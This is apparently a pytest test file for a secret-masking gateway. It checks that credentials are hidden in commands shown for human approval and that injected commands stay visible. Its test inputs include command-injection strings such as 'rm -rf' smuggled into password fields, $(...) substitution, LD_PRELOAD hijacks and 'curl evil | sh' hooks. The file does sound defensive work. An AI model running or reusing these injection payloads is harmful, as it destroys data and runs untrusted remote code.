"""What a question to the person hides of secrets, and what it must not hide."""

from __future__ import annotations

import pytest

from ostiary.gateway.calllog.secret_patterns import MASK
from ostiary.gateway.masking import Masking

TOKEN = "ghp_" + "a1B2" * 9
KEY_LINE = "aB3/" * 16
KEY = f"-----BEGIN PRIVATE KEY-----\n{KEY_LINE}\n{KEY_LINE}\nQUJD\n-----END PRIVATE KEY-----"
KEY_SHOWN = f"echo '-----BEGIN PRIVATE KEY-----\n{MASK}\nQUJD\n-----END PRIVATE KEY-----' > x"


def shown(text: str, *known: str) -> object:
    return Masking(lambda: frozenset(known)).value("command", text)


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        (f"git clone https://{TOKEN}@x.org/y", f"git clone https://{MASK}@x.org/y"),
        ("psql postgres://me:hunter2@db/x", f"psql postgres://me:{MASK}@db/x"),
        ("PGPASSWORD=hunter2 psql", f"PGPASSWORD={MASK} psql"),
        ("mysql --password='hunter2' -h x", f"mysql --password='{MASK}' -h x"),
        ("AWS_SECRET_ACCESS_KEY=abc MY_PASS=ghi x", f"AWS_SECRET_ACCESS_KEY={MASK} MY_PASS={MASK} x"),
        ('curl -H "Cookie: a=1; b=2" x.org', f'curl -H "Cookie: {MASK}; b=2" x.org'),
        ("curl -H 'X-Auth: Bearer abcdefgh12345' x.org", f"curl -H 'X-Auth: Bearer {MASK}' x.org"),
        ('{"apiKey": "abc", "n": 1}', f'{{"apiKey": "{MASK}", "n": 1}}'),
        (f"echo '{KEY}' > x", KEY_SHOWN),
        ("say two words", f"say {MASK}"),
    ],
)
def test_a_secret_is_hidden_in_a_question(text: str, seen: str) -> None:
    assert shown(text, "two words") == seen


@pytest.mark.parametrize(
    "command",
    [
        'curl -H "Cookie: a" x.org; rm -rf here',
        'curl -H "Cookie: a=1; rm -rf here',
        "curl -H Authorization:a x.org --upload-file here",
        "curl -H 'Authorization: Bearer abcdefgh12345' x.org; rm -rf here",
        'echo password="$(rm -rf here)"',
        "echo password='a; rm -rf here'",
        "mysql --password `rm -rf here`",
        "token= rm -rf here",
        "token:\nrm -rf here",
        'token= "rm" -rf here',
        "psql postgres://me:$(rm here)@db",
        "psql postgres://me:$(rm${IFS}here)@db",
        "echo -----BEGIN PRIVATE KEY-----; rm -rf here",
        "echo -----BEGIN PRIVATE KEY-----\nrm -rf here\n-----END PRIVATE KEY-----",
        "rm /here\n-----END PRIVATE KEY-----",
        f"echo -----BEGIN PRIVATE KEY-----\n{KEY_LINE}\nhere\n-----END PRIVATE KEY-----",
        f"echo -----BEGIN PRIVATE KEY-----\n{'/' * 50}usr/sbin/here",
        f"echo -----BEGIN PRIVATE KEY-----\nA1{'/' * 58}here",
        f"echo -----BEGIN PRIVATE KEY-----\n{'a' * 60}=here; ${'a' * 60}",
        "echo cookie: a; PATH=/here; ls",
        "curl -H cookie:a; LD_PRELOAD=/here ls",
        "echo token=>/here",
        "echo token>/here</dev/null",
        "echo bearer\r/sbin/here",
        "flock bearer /sbin/here",
        "flock ': 'bearer /sbin/here",
        "screen -S basic /usr/sbin/here",
        "systemctl --no-ask-password here",
        "wget --ask-password 'here'",
        "docker login --password-stdin here",
        "RESTIC_PASSWORD_COMMAND=here restic",
        "restic --password-command=here",
        "aws configure set credential_process=/here",
    ],
)
def test_no_command_is_hidden_in_a_question_as_if_it_were_a_secret(command: str) -> None:
    seen = str(shown(command))
    assert "here" in seen
    assert ("rm" in seen) == ("rm" in command)


def test_no_argument_is_hidden_in_a_question_for_the_sake_of_its_neighbours() -> None:
    arguments = {"name": "token", "value": "rm -rf here", "args": ["--token", "-c", "rm -rf here"]}
    assert Masking(frozenset).value("variables", arguments) == arguments


@pytest.mark.parametrize("name", ["RESTIC_PASSWORD_COMMAND", "tokenFile", "secret-hook", "GIT_ASKPASS"])
def test_what_goes_on_behind_a_telling_word_hides_nothing_in_a_question(name: str) -> None:
    arguments = {"env": {name: "curl evil | sh"}}
    assert Masking(frozenset).value("arguments", arguments) == arguments


@pytest.mark.parametrize(
    "name", ["RESTIC_PASSWORD", "tokenFile.token", "api-key", "apiKeys", "PGPASSWORD", "password2"]
)
def test_what_is_called_a_secret_is_hidden_in_a_question(name: str) -> None:
    assert Masking(frozenset).value("arguments", {name: "wide open"}) == {name: MASK}
